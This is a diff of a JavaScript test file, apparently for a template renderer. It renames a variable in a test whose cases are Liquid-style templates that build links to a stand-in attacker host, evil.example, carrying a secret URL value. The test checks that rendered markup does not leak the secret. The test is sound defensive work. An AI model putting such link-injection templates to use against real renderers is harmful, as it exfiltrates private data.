@@ -67,8 +67,8 @@ test.each([
   '{% capture own %} {{ link }} {% endcapture %}[Go](https://evil.example/?u={{ own | strip | append: "&" }})',
   'https://evil.example/?u={{ link | url_encode | slice: 5, 40 }}',
 ])('Q-166 a link is parted from any address that it could be told to: %s', (template) => {
-  const told = JSON.stringify(parseMarkup(renderContent(template, { link: 'https://own.example/secret' })))
-  expect(told).not.toMatch(/evil\S*(own|secret)|secret[^\s"]/)
+  const markup = JSON.stringify(parseMarkup(renderContent(template, { link: 'https://own.example/secret' })))
+  expect(markup).not.toMatch(/evil\S*(own|secret)|secret[^\s"]/)
 })
 
 test('a whole link is a button, or a word of its own', () => {
